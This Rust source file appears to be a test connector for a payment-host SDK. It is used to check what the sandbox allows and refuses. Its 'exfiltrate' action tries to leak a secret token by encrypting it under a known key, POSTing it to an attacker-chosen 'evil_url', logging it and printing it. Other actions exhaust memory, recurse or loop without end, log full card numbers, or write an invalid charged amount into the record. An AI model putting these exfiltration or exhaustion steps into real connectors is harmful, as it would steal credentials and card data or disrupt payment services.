//! A test connector: each payment's `action` attribute picks what it does,
//! from an honest HTTP round trip to an infinite loop. The integration tests
//! drive it to prove what the host allows and refuses.

use payhost_sdk::http::{HttpError, Request};
use payhost_sdk::xml::Element;
use payhost_sdk::{
    Connector, ConnectorError, ConnectorInfo, ErrorKind, MethodKind, Parts, PaymentOutcome,
    PaymentRequest, SecretEncoding, clock, config, crypto, json, log, register_connector,
};

struct Probe;

fn http_error(e: &HttpError) -> (&'static str, String) {
    (e.kind(), e.message().to_owned())
}

fn report(result: Result<payhost_sdk::http::Response, HttpError>) -> PaymentOutcome {
    match result {
        Ok(r) => PaymentOutcome::succeeded()
            .detail("status", r.status.to_string())
            .detail("location", r.header("location").unwrap_or_default())
            .detail("body", String::from_utf8_lossy(&r.body)),
        Err(e) => {
            let (kind, message) = http_error(&e);
            PaymentOutcome::failed(ConnectorError::new(ErrorKind::Denied, message))
                .detail("http-error", kind)
        }
    }
}

fn crypto_text(r: Result<Vec<u8>, crypto::CryptoError>) -> String {
    match r {
        Ok(bytes) => crypto::hex(&bytes),
        Err(crypto::CryptoError::Denied(m)) => format!("denied: {m}"),
        Err(crypto::CryptoError::Invalid(m)) => format!("invalid: {m}"),
    }
}

fn vectors() -> PaymentOutcome {
    let text = |s: &str| Parts::new().text(s);
    let secret = |n: &str| Parts::new().secret(n, SecretEncoding::Raw);
    let aes = crypto::aes256_cbc_encrypt(
        &secret("aes_key"),
        &[0; 16],
        &text("ctPJAIdxUA3ptaWC&1500375695.65"),
    )
    .map(|c| crypto::base64_encode(&c))
    .unwrap_or_else(|e| e.message().to_owned());
    let roundtrip = crypto::aes256_cbc_encrypt(
        &text("0123456789abcdef0123456789abcdef"),
        &[7; 16],
        &text("round trip"),
    )
    .and_then(|c| {
        crypto::aes256_cbc_decrypt(&text("0123456789abcdef0123456789abcdef"), &[7; 16], &c)
    })
    .map(|p| String::from_utf8_lossy(&p).into_owned())
    .unwrap_or_else(|e| e.message().to_owned());
    PaymentOutcome::succeeded()
        .detail("md5-abc", crypto_text(crypto::md5(&text("abc"))))
        .detail(
            "md5-nemo",
            crypto_text(crypto::md5(&text("263330").append(secret("nemo_key")))),
        )
        .detail("sha256-abc", crypto_text(crypto::sha256(&text("abc"))))
        .detail(
            "hmac-jefe",
            crypto_text(crypto::hmac_sha256(
                &text("Jefe"),
                &text("what do ya want for nothing?"),
            )),
        )
        .detail(
            "hmac-secret-key",
            crypto_text(crypto::hmac_sha256(&secret("hmac_key"), &text("data"))),
        )
        .detail("aes-aerohub", aes)
        .detail("aes-roundtrip", roundtrip)
        .detail("base64", crypto::base64_encode(b"payhost"))
        .detail(
            "base64-back",
            String::from_utf8_lossy(&crypto::base64_decode("cGF5aG9zdA==").unwrap_or_default()),
        )
        .detail(
            "aes-short-key",
            crypto_text(crypto::aes256_cbc_encrypt(
                &text("short"),
                &[0; 16],
                &text("x"),
            )),
        )
        .detail(
            "unknown-secret",
            crypto_text(crypto::md5(&secret("not_granted"))),
        )
}

/// Every way a connector might try to get a secret's value out.
fn exfiltrate(request: &PaymentRequest) -> PaymentOutcome {
    let token = || Parts::new().secret("token", SecretEncoding::Raw);
    let own_key = Parts::new().text("0123456789abcdef0123456789abcdef");
    let mut outcome = PaymentOutcome::succeeded();
    // 1. Encrypt it under a key we know, to decrypt it ourselves.
    let encrypted = crypto::aes256_cbc_encrypt(&own_key, &[0; 16], &token());
    outcome = outcome.detail("encrypt-under-own-key", crypto_text(encrypted));
    // 2. Decrypt something with it as the key: yields only noise.
    let decrypted = crypto::aes256_cbc_decrypt(&token(), &[0; 16], &[0; 16]);
    outcome = outcome.detail(
        "decrypt-with-secret-key",
        crypto_text(decrypted).chars().take(7).collect::<String>(),
    );
    // 3. Send it to a host that is not allowed.
    if let Some(url) = request.attribute("evil_url") {
        let sent = Request::post(url)
            .header("x-stolen", token())
            .body(token())
            .send();
        outcome = outcome.detail(
            "send-to-evil",
            sent.err().map(|e| http_error(&e).0).unwrap_or("sent"),
        );
    }
    // 4. Ask for it in the URL: not possible, URLs are plain strings.
    // 5. Log it, print it, return it: the connector only holds the name.
    log::event(
        log::Level::Warn,
        "trying to log the secret",
        &[("token", "token")],
    );
    println!("printing the secret: {:?}", token());
    outcome.detail("returned", format!("{:?}", token()))
}

impl Connector for Probe {
    fn info() -> ConnectorInfo {
        ConnectorInfo::new("probe", env!("CARGO_PKG_VERSION"), "Probe test supplier")
            .methods([MethodKind::Balance, MethodKind::Card])
            .secrets(["token", "aes_key", "nemo_key", "hmac_key"])
            .config_keys(["base_url", "greeting"])
            .hosts(["config:base_url", "https://probe.example.com"])
    }

    fn pay(request: PaymentRequest) -> PaymentOutcome {
        let base = config::get("base_url").unwrap_or_default();
        let url = request
            .attribute("url")
            .map(str::to_owned)
            .unwrap_or_else(|| format!("{base}/echo"));
        match request.attribute("action").unwrap_or("roundtrip") {
            "roundtrip" => {
                let body = serde_json::json!({
                    "order": request.order_id,
                    "amount": json::decimal(&request.amount.amount),
                    "token": json::secret("token"),
                });
                let sent = Request::post(&url)
                    .header("x-plain", "hello")
                    .header(
                        "x-token",
                        Parts::new()
                            .text("Bearer ")
                            .secret("token", SecretEncoding::Raw),
                    )
                    .json(&body)
                    .map_err(|e| e.message);
                match sent {
                    Ok(r) => report(r.send()),
                    Err(e) => {
                        PaymentOutcome::failed(ConnectorError::new(ErrorKind::InvalidRequest, e))
                    }
                }
            }
            "xml" => {
                let body = Element::new("soapenv:Envelope")
                    .attr("xmlns:soapenv", "http://schemas.xmlsoap.org/soap/envelope/")
                    .child(Element::new("APIKey").secret_text("token"))
                    .child(Element::new("Note").text("a < b & c"))
                    .to_document();
                report(
                    Request::post(&url)
                        .header("content-type", "text/xml; charset=utf-8")
                        .body(body)
                        .send(),
                )
            }
            "fetch" => report(Request::get(&url).send()),
            "follow" => match Request::get(&url).send() {
                Ok(r) if (300..400).contains(&r.status) => {
                    let location = r.header("location").unwrap_or_default().to_owned();
                    report(Request::get(location).send())
                        .detail("first-status", r.status.to_string())
                }
                other => report(other),
            },
            "burst" => {
                let n: u32 = request
                    .attribute("count")
                    .and_then(|c| c.parse().ok())
                    .unwrap_or(20);
                let mut outcome = PaymentOutcome::succeeded();
                for i in 0..n {
                    let r = Request::get(&url).send();
                    outcome = outcome.detail(
                        format!("request-{i}"),
                        r.err().map(|e| http_error(&e).0).unwrap_or("ok"),
                    );
                }
                outcome
            }
            "fetch-then-trap" => {
                let _ = Request::get(&url).send();
                panic!("trapping after a request left");
            }
            "crypto" => vectors(),
            "exfiltrate" => exfiltrate(&request),
            "config" => config::all()
                .into_iter()
                .fold(PaymentOutcome::succeeded(), |o, (k, v)| o.detail(k, v)),
            "clock" => PaymentOutcome::succeeded().detail("now", clock::unix_seconds().to_string()),
            "loop" => loop {
                std::hint::black_box(0);
            },
            "recurse" => {
                fn down(n: u64) -> u64 {
                    if n == u64::MAX {
                        0
                    } else {
                        std::hint::black_box(down(n + 1)) + 1
                    }
                }
                PaymentOutcome::succeeded().detail("depth", down(0).to_string())
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("the probe was told to trap"),
            "card-echo" => {
                let number = match &request.method {
                    payhost_sdk::PaymentMethod::Card(c) => c.number.clone(),
                    _ => String::new(),
                };
                log::info(&format!("paying with card {number}"));
                println!("stdout card {number}");
                PaymentOutcome::succeeded()
                    .reference(format!("ref-{number}"))
                    .detail("card", number)
            }
            "lie" => {
                // Past the SDK's check, straight into the record.
                let mut outcome = PaymentOutcome::succeeded();
                outcome.charged = Some(payhost_sdk::Money::new("12,5", "usd"));
                outcome
            }
            other => PaymentOutcome::failed(ConnectorError::new(
                ErrorKind::InvalidRequest,
                format!("unknown action {other}"),
            )),
        }
    }
}

register_connector!(Probe);
